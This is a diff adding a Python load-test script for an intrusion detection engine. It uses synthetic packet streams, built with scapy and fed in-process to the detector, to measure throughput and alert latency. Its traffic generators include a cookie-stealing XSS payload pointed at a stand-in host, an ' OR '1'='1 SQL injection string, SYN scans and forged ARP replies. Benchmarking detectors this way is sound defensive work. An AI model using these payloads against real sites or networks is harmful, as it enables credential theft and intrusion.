@@ -0,0 +1,400 @@
+"""
+End-to-End Load Test
+Synthetic attack traffic through capture dissection, the detectors, IPS, aggregation and delivery into the API
+
+Generates packet streams at a configurable rate per scenario:
+  syn-scan     SYN sweeps, each source walks --scan-ports ports then a new source starts
+  arp-spoof    ARP replies for a pool of LAN hosts, every other one from an attacker MAC
+  http-attack  HTTP requests carrying SQL injection or XSS, alternately
+  honeypot     SYNs to the HONEYPOT_PORTS
+  benign       clients opening HTTP/HTTPS connections and sending ordinary GETs
+Frames are built up front, then replayed on schedule the way live capture hands
+them over: dissected by scapy, stamped, and passed to SentinelEngine.packet_handler,
+with the engine's own queue, processors and delivery behind it. Each alert's
+latency runs from the packet that raised it to the API acknowledging its batch,
+so it includes AGGREGATION_WINDOW for aggregated alerts and API_BATCH_LATENCY.
+
+Threats go to the stub API unless --url points at a running backend. The
+results (packets/sec, latency percentiles, drops, peak memory) are printed and,
+with --output, written as JSON; --compare prints the change against an earlier
+report. With --live frames are built as they fall due instead, for long runs at
+demo rates (demo.bat runs it that way against the local backend).
+
+Usage (from the hunter directory):
+    python benchmarks/bench_e2e.py --duration 10 --output e2e.json
+    python benchmarks/bench_e2e.py --flood --syn-scan 20000 --benign 50000 --compare e2e.json
+    python benchmarks/bench_e2e.py --url http://localhost:8000/api --duration 30
+"""
+
+import os
+import sys
+import json
+import time
+import heapq
+import random
+import asyncio
+import logging
+import argparse
+import platform
+import threading
+import statistics
+from collections import Counter
+from itertools import takewhile
+from datetime import datetime, timezone
+from operator import itemgetter
+
+from scapy.all import ARP, IP, TCP, Ether, Raw
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+import config
+from stub_api import StubThreatAPI
+from bench_spool import peak_rss_mb
+
+config.SPOOL_ENABLED = False   # Overflow counts as a drop instead of going to disk
+config.METRICS_ENABLED = False
+config.USE_MOCK_AI = True
+
+from sentinel_engine import SentinelEngine
+
+SCENARIOS = ("syn-scan", "arp-spoof", "http-attack", "honeypot", "benign")
+VICTIM = "10.0.0.5"
+ATTACKER_MAC = "de:ad:be:ef:00:01"
+GATEWAY_MAC = "02:00:00:00:00:01"
+LATE_AFTER = 0.1   # Seconds behind schedule before a packet counts as late
+
+# Report fields --compare shows, and whether a higher value is better
+HEADLINE = (
+    ("packets.pps_achieved", True),
+    ("alerts", True),
+    ("delivered", True),
+    ("dropped", False),
+    ("latency_ms.p50", False),
+    ("latency_ms.p95", False),
+    ("latency_ms.p99", False),
+    ("latency_ms.max", False),
+    ("packets.max_lag_ms", False),
+    ("memory.peak_rss_mb", False),
+)
+
+
+def source(block, n):
+    """Distinct public-looking address n of a scenario's block, so sources never repeat across scenarios."""
+    i, host = divmod((block << 20) + n, 254)
+    return f"{23 + (i >> 16) % 100}.{(i >> 8) & 255}.{i & 255}.{host + 1}"
+
+
+def syn_scan(rng, scan_ports):
+    # Unprivileged ports, so a sweep does not also trip the honeypot
+    for n in range(1 << 20):
+        src, first = source(1, n), rng.randint(1024, 60000)
+        for port in range(first, first + scan_ports):
+            yield Ether() / IP(src=src, dst=VICTIM) / TCP(sport=rng.randint(1024, 65535), dport=port, flags="S")
+
+
+def arp_spoof(rng):
+    hosts = [(f"192.168.1.{i}", "02:00:00:00:%02x:%02x" % (i, rng.randint(0, 255))) for i in range(2, 66)]
+    while True:
+        for ip, mac in hosts:
+            yield Ether(src=mac, dst=GATEWAY_MAC) / ARP(op=2, psrc=ip, hwsrc=mac, pdst="192.168.1.1")
+            yield Ether(src=ATTACKER_MAC, dst=GATEWAY_MAC) / ARP(op=2, psrc=ip, hwsrc=ATTACKER_MAC, pdst="192.168.1.1")
+
+
+def http_attack(rng):
+    for n in range(1 << 20):
+        if n % 2:
+            body = f"GET /search?q=<script>document.location='http://x.test/?c='+{n}</script> HTTP/1.1\r\n"
+        else:
+            body = f"GET /item?id={n}' OR '1'='1 HTTP/1.1\r\n"
+        yield (Ether() / IP(src=source(2, n), dst=VICTIM)
+               / TCP(sport=rng.randint(1024, 65535), dport=80, flags="PA", seq=rng.randrange(1 << 32))
+               / Raw((body + "Host: shop.local\r\nUser-Agent: sqlmap/1.7\r\n\r\n").encode()))
+
+
+def honeypot(rng):
+    for n in range(1 << 20):
+        yield (Ether() / IP(src=source(3, n), dst=VICTIM)
+               / TCP(sport=rng.randint(1024, 65535), dport=rng.choice(config.HONEYPOT_PORTS), flags="S"))
+
+
+def benign(rng):
+    clients = [f"10.0.{i >> 8}.{i & 255 or 1}" for i in range(1, 1001)]
+    paths = ("/", "/index.html", "/static/app.js", "/api/products?page=2", "/login")
+    while True:
+        src, sport = rng.choice(clients), rng.randint(1024, 65535)
+        if rng.random() < 0.5:
+            yield Ether() / IP(src=src, dst=VICTIM) / TCP(sport=sport, dport=rng.choice((80, 443)), flags="S")
+        else:
+            request = f"GET {rng.choice(paths)} HTTP/1.1\r\nHost: shop.local\r\nAccept: text/html\r\n\r\n"
+            yield (Ether() / IP(src=src, dst=VICTIM)
+                   / TCP(sport=sport, dport=80, flags="PA", seq=rng.randrange(1 << 32)) / Raw(request.encode()))
+
+
+def schedule(rates, scan_ports, seed):
+    """(due offset, scenario, frame bytes) for every scenario merged in time order, without end."""
+    builders = {"syn-scan": lambda rng: syn_scan(rng, scan_ports), "arp-spoof": arp_spoof,
+                "http-attack": http_attack, "honeypot": honeypot, "benign": benign}
+
+    def timed(name, rate, packets):
+        for i, packet in enumerate(packets):
+            yield i / rate, name, bytes(packet)
+
+    streams = [timed(name, rates[name], builders[name](random.Random(seed + k)))
+               for k, name in enumerate(SCENARIOS) if rates[name] > 0]
+    return heapq.merge(*streams, key=itemgetter(0))
+
+
+class LatencyProbe:
+    """
+    Stamps every detection with the capture time of the packet that raised
+    it, under an event_id of its own (prepare_threat keeps it), and takes the
+    time again when delivery's batch carrying that event_id is acknowledged.
+    """
+
+    def __init__(self, engine):
+        self.engine = engine
+        self.packet_at = 0.0     # Capture time of the packet in packet_handler, set by the feed
+        self.stamps = {}         # event_id -> capture time
+        self.latencies = []
+        self.detections = Counter()
+        self.serial = 0
+        self.lock = threading.Lock()
+
+        handle_threat = engine.handle_threat
+
+        def handle(threat):
+            self.serial += 1
+            threat['event_id'] = f"e2e{self.serial:029x}"
+            self.stamps[threat['event_id']] = self.packet_at
+            self.detections[threat['attack_type']] += 1
+            handle_threat(threat)
+
+        engine.handle_threat = handle
+        delivery = engine.delivery
+        if engine.async_core:
+            send_batch = delivery.send_batch
+
+            async def acked(batch):
+                ok = await send_batch(batch)
+                if ok:
+                    self.acked(batch)
+                return ok
+
+            delivery.send_batch = acked
+        else:
+            post_batch = delivery.post_batch
+
+            def posted(batch):
+                ok = post_batch(batch)
+                if ok:
+                    self.acked(batch)
+                return ok
+
+            delivery.post_batch = posted
+
+    def acked(self, batch):
+        now = time.perf_counter()
+        with self.lock:
+            for payload in batch:
+                sent = self.stamps.pop(payload.get('event_id'), None)
+                if sent is not None:
+                    self.latencies.append(now - sent)
+
+    def percentiles(self):
+        if not self.latencies:
+            return {}
+        ms = sorted(x * 1000 for x in self.latencies)
+        cuts = statistics.quantiles(ms, n=100, method='inclusive') if len(ms) > 1 else ms * 99
+        return {"count": len(ms), "mean": round(statistics.fmean(ms), 2), "p50": round(cuts[49], 2),
+                "p90": round(cuts[89], 2), "p95": round(cuts[94], 2), "p99": round(cuts[98], 2),
+                "max": round(ms[-1], 2)}
+
+
+def run(args, rates):
+    engine = SentinelEngine()
+    engine.running = True
+    probe = LatencyProbe(engine)
+    stream = schedule(rates, args.scan_ports, args.seed)
+    total = int(sum(rates.values()) * args.duration)
+
+    start = time.perf_counter()
+    if not args.live:
+        stream = list(takewhile(lambda item: item[0] < args.duration, stream))
+    built = "generated on the fly" if args.live else f"built in {time.perf_counter() - start:.1f}s"
+    print(f"{total:,} packets {built}, {config.ENGINE_MODE} core, delivering to {config.API_BATCH_URL}")
+    rss_before = peak_rss_mb()
+    fed = {"offered": 0, "late": 0, "max_lag": 0.0, "elapsed": 0.0}
+
+    def feed():
+        offered = late = 0
+        max_lag = 0.0
+        progress = time.perf_counter() + args.progress
+        begin = time.perf_counter()
+        for due, _, frame in stream:
+            if due >= args.duration:
+                break
+            if not args.flood:
+                lag = time.perf_counter() - begin - due
+                if lag < -0.0005:
+                    time.sleep(-lag)
+                elif lag > LATE_AFTER:
+                    late += 1
+                max_lag = max(max_lag, lag)
+            probe.packet_at = time.perf_counter()
+            packet = Ether(frame)
+            packet.time = time.time()
+            engine.packet_handler(packet)
+            offered += 1
+            if args.progress and probe.packet_at >= progress:
+                progress += args.progress
+                print(f"[{probe.packet_at - begin:>6.0f}s] packets={offered:,} detections="
+                      f"{sum(probe.detections.values()):,} delivered={engine.delivery.delivered:,}", flush=True)
+        fed.update(offered=offered, late=late, max_lag=max_lag, elapsed=time.perf_counter() - begin)
+
+    start = time.perf_counter()
+    if engine.async_core:
+        asyncio.run(engine.run_core(feed))
+    else:
+        engine.start_processing()
+        feed()
+        if engine.aggregator:
+            engine.aggregator.stop()
+        engine.threat_queue.join()
+        engine.stop()
+    drained = time.perf_counter() - start
+
+    detections = sum(probe.detections.values())
+    alerts = engine.aggregator.emitted if engine.aggregator else detections
+    delivered = len(probe.latencies)
+    return {
+        "benchmark": "e2e",
+        "started_at": datetime.now(timezone.utc).isoformat(timespec="seconds"),
+        "host": {"python": platform.python_version(), "platform": platform.platform(), "cpus": os.cpu_count()},
+        "config": {
+            "engine_mode": config.ENGINE_MODE,
+            "duration_s": args.duration,
+            "flood": args.flood,
+            "live": args.live,
+            "rates_pps": rates,
+            "scan_ports": args.scan_ports,
+            "seed": args.seed,
+            "target": args.url or "stub",
+            "stub_latency_s": None if args.url else args.latency,
+            "aggregation": config.AGGREGATION_ENABLED,
+            "ips": config.IPS_BLOCKING_ENABLED,
+            "api_batch_size": config.API_BATCH_SIZE,
+            "api_batch_latency_s": config.API_BATCH_LATENCY,
+            "async_processors": config.ASYNC_PROCESSORS,
+            "delivery_concurrency": config.ASYNC_DELIVERY_CONCURRENCY,
+        },
+        "packets": {
+            "offered": fed["offered"],
+            "inspected": engine.packets_seen,
+            "ips_dropped": fed["offered"] - engine.packets_seen,
+            "pps_offered": round(sum(rates.values())),
+            "pps_achieved": round(fed["offered"] / fed["elapsed"]) if fed["elapsed"] else 0,
+            "late": fed["late"],
+            "max_lag_ms": round(fed["max_lag"] * 1000, 2),
+        },
+        "detections": detections,
+        "detections_by_type": dict(probe.detections.most_common()),
+        "alerts": alerts,
+        "delivered": delivered,
+        "dropped": alerts - delivered,
+        "delivery": engine.delivery.metrics(),
+        "latency_ms": probe.percentiles(),
+        "memory": {"rss_before_run_mb": round(rss_before, 1), "peak_rss_mb": round(peak_rss_mb(), 1)},
+        "feed_s": round(fed["elapsed"], 3),
+        "drain_s": round(drained - fed["elapsed"], 3),
+    }
+
+
+def flatten(report, prefix=""):
+    values = {}
+    for key, value in report.items():
+        if isinstance(value, dict):
+            values.update(flatten(value, f"{prefix}{key}."))
+        elif isinstance(value, (int, float)) and not isinstance(value, bool):
+            values[f"{prefix}{key}"] = value
+    return values
+
+
+def print_report(report):
+    p, lat = report["packets"], report["latency_ms"]
+    print(f"\n{'packets':>9} {'pps':>8} {'late':>6} {'max lag ms':>11} {'ips drop':>9} {'detections':>11} "
+          f"{'alerts':>7} {'delivered':>10} {'dropped':>8} {'peak MB':>8}")
+    print(f"{p['offered']:>9,} {p['pps_achieved']:>8,} {p['late']:>6,} {p['max_lag_ms']:>11.1f} "
+          f"{p['ips_dropped']:>9,} {report['detections']:>11,} {report['alerts']:>7,} {report['delivered']:>10,} "
+          f"{report['dropped']:>8,} {report['memory']['peak_rss_mb']:>8.0f}")
+    print(f"\n{'attack type':<16} {'detections':>11}")
+    for attack_type, count in report["detections_by_type"].items():
+        print(f"{attack_type:<16} {count:>11,}")
+    if lat:
+        print(f"\npacket -> API ack ms: p50 {lat['p50']:.1f}  p90 {lat['p90']:.1f}  p95 {lat['p95']:.1f}  "
+              f"p99 {lat['p99']:.1f}  max {lat['max']:.1f}  ({lat['count']:,} alerts)")
+
+
+def print_comparison(report, baseline):
+    new, old = flatten(report), flatten(baseline)
+    print(f"\nagainst {baseline.get('started_at', 'baseline')}:")
+    print(f"{'metric':<22} {'baseline':>11} {'this run':>11} {'change':>9}")
+    for key, higher_is_better in HEADLINE:
+        if key not in new or key not in old:
+            continue
+        change = (new[key] - old[key]) / old[key] * 100 if old[key] else 0.0
+        worse = change < 0 if higher_is_better else change > 0
+        flag = "  worse" if worse and abs(change) >= 5 else ""
+        print(f"{key:<22} {old[key]:>11,.1f} {new[key]:>11,.1f} {change:>+8.1f}%{flag}")
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[1])
+    parser.add_argument('--duration', type=float, default=10.0, help="seconds of traffic")
+    parser.add_argument('--syn-scan', type=float, default=800, help="packets/sec of port sweeps")
+    parser.add_argument('--arp-spoof', type=float, default=40, help="packets/sec of ARP replies, half spoofed")
+    parser.add_argument('--http-attack', type=float, default=100, help="packets/sec of SQLi/XSS requests")
+    parser.add_argument('--honeypot', type=float, default=60, help="packets/sec to the honeypot ports")
+    parser.add_argument('--benign', type=float, default=1000, help="packets/sec of ordinary traffic")
+    parser.add_argument('--scan-ports', type=int, default=32, help="ports each scanning source sweeps")
+    parser.add_argument('--flood', action='store_true', help="ignore the schedule, feed as fast as possible")
+    parser.add_argument('--live', action='store_true', help="build frames as they fall due (long, slow runs)")
+    parser.add_argument('--mode', choices=("async", "threads"), default=config.ENGINE_MODE, help="ENGINE_MODE")
+    parser.add_argument('--no-aggregation', action='store_true', help="AGGREGATION_ENABLED = False")
+    parser.add_argument('--latency', type=float, default=0.005, help="stub per-request delay in seconds")
+    parser.add_argument('--url', help="API base of a running backend, e.g. http://localhost:8000/api")
+    parser.add_argument('--seed', type=int, default=7)
+    parser.add_argument('--progress', type=float, default=0, help="print a status line every N seconds")
+    parser.add_argument('--output', help="write the report as JSON to this file")
+    parser.add_argument('--compare', help="earlier --output report to compare against")
+    args = parser.parse_args()
+
+    logging.disable(logging.CRITICAL)
+    rates = {name: getattr(args, name.replace("-", "_")) for name in SCENARIOS}
+    config.ENGINE_MODE = args.mode
+    config.AGGREGATION_ENABLED = not args.no_aggregation
+
+    stub = None
+    if args.url:
+        config.API_BATCH_URL = f"{args.url.rstrip('/')}/threats/batch"
+    else:
+        stub = StubThreatAPI(latency=args.latency).start()
+        config.API_BATCH_URL = stub.batch_url
+
+    report = run(args, rates)
+    if stub:
+        report["stub"] = {"requests": stub.requests, "threats": stub.threats, "failures": stub.failures}
+        stub.stop()
+
+    print_report(report)
+    if args.compare:
+        with open(args.compare) as f:
+            print_comparison(report, json.load(f))
+    if args.output:
+        with open(args.output, "w") as f:
+            json.dump(report, f, indent=2)
+            f.write("\n")
+        print(f"\nreport written to {args.output}")
+
+
+if __name__ == "__main__":
+    main()